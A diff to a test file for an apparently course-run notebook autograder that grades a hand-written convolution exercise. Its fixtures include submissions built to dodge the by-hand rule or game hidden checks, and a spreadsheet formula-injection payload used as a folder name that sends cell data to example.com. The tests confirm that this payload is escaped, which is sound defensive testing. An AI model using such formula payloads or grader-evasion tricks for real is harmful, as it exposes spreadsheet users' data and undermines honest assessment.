@@ -39,6 +39,8 @@ WRONG = {  # convolve and the second quiz question wrong: 4 of 8
     "quiz_edge_kernel_answer": 'quiz_edge_kernel = "right_edge"',
 }
 MARK = uuid.uuid4().hex[:12]  # names of files a hostile answer tries to leave behind
+#: A student folder named like a spreadsheet formula (no slash: it is one folder name).
+FORMULA = '=HYPERLINK(CONCATENATE("https:",CHAR(47),CHAR(47),"example.com?g="&A1),"Click for your grade")'
 
 
 def _grade_id(cell) -> str | None:
@@ -237,10 +239,11 @@ def _students(subs: Path, port: int) -> None:
         f"    worker = threading.Thread(target=lambda: out.append({conv}))\n"
         "    worker.start()\n    worker.join()\n    return out[0]"), "nb.ipynb")
     hand_in(subs, "byhand_process", by_hand(
-        "import multiprocessing, torch, torch.nn.functional as F\n"
-        f"def _conv(args):\n    img, kernel = args\n    return {conv}\n"
-        "def convolve(img, kernel):\n    with multiprocessing.get_context('fork').Pool(1) as pool:\n"
-        "        return pool.map(_conv, [(img, kernel)])[0]"), "nb.ipynb")
+        "import subprocess, sys, torch\ndef convolve(img, kernel):\n"
+        "    torch.save((img, kernel), '/tmp/in.pt')\n"
+        "    subprocess.run([sys.executable, '-c', 'import torch, torch.nn.functional as F; img, kernel = '\n"
+        f"                    'torch.load(\"/tmp/in.pt\"); torch.save({conv}, \"/tmp/out.pt\")'], check=True)\n"
+        "    return torch.load('/tmp/out.pt')"), "nb.ipynb")
     hand_in(subs, "byhand_table", by_hand(
         "import torch, torch.nn.functional as F\nfrom helpers.checks import exercise\n_table = {}\n"
         "for _hidden in (False, True):  # every case the course's own API lists\n"
@@ -249,10 +252,12 @@ def _students(subs: Path, port: int) -> None:
         "def convolve(img, kernel):\n    key = img.numpy().tobytes() + kernel.numpy().tobytes()\n"
         "    return _table.get(key, torch.zeros(img.shape[0] - kernel.shape[0] + 1, "
         "img.shape[1] - kernel.shape[1] + 1))"), "nb.ipynb")
-    hand_in(subs, "byhand_compiled", by_hand(
-        "import torch\nfrom scipy.signal import correlate2d  # compiled code, saved before the check\n"
+    hand_in(subs, "byhand_numpy_windows", by_hand(
+        "import numpy as np, torch\n"
+        "from numpy.lib.stride_tricks import sliding_window_view  # saved before the check\n"
         "def convolve(img, kernel):\n"
-        "    return torch.tensor(correlate2d(img.numpy(), kernel.numpy(), mode='valid'), dtype=torch.float32)"),
+        "    windows = sliding_window_view(img.numpy(), kernel.shape)\n"
+        "    return torch.from_numpy(np.einsum('ijkl,kl->ij', windows, kernel.numpy()).astype('float32'))"),
         "nb.ipynb")
 
     # -- files no batch step may choke on (issue 11)
@@ -269,8 +274,7 @@ def _students(subs: Path, port: int) -> None:
     nb["nbformat"], nb["nbformat_minor"] = 99, "five"
     (subs / "odd_metadata").mkdir()
     (subs / "odd_metadata" / "homework.ipynb").write_text(json.dumps(nb))
-    formula = '=HYPERLINK("https://example.com/?leak="&A1,"Click for your grade")'
-    hand_in(subs, formula, correct(), "nb.ipynb")
+    hand_in(subs, FORMULA, correct(), "nb.ipynb")
 
 
 def _digest(paths) -> dict[str, str]:
@@ -548,7 +552,7 @@ def test_every_submission_has_a_result(batch):
     ("byhand_thread", "tried to start a thread"),
     ("byhand_process", "tried to start a process"),
     ("byhand_table", "the instructor's hidden checks did not"),
-    ("byhand_compiled", "must be computed by hand, but it called scipy.signal.correlate2d"),
+    ("byhand_numpy_windows", "must be computed by hand, but it called numpy.lib.stride_tricks.sliding_window_view"),
 ])
 def test_every_route_around_the_by_hand_rule_costs_the_points(batch, student, words):
     _honest(batch, student, FULL - 3)
@@ -583,7 +587,7 @@ def test_wrong_types_anywhere_in_the_metadata_change_nothing(batch):
 # -- spreadsheet-safe CSV (issue 11) ------------------------------------------------------------
 
 def test_a_formula_for_a_name_is_text_in_the_csv_and_raw_in_the_report(batch):
-    formula = '=HYPERLINK("https://example.com/?leak="&A1,"Click for your grade")'
+    formula = FORMULA
     assert batch["report"][formula]["status"] == "graded" and batch["report"][formula]["score"] == FULL
     names = {r["student"] for r in batch["rows"]}
     assert formula not in names and "'" + formula in names
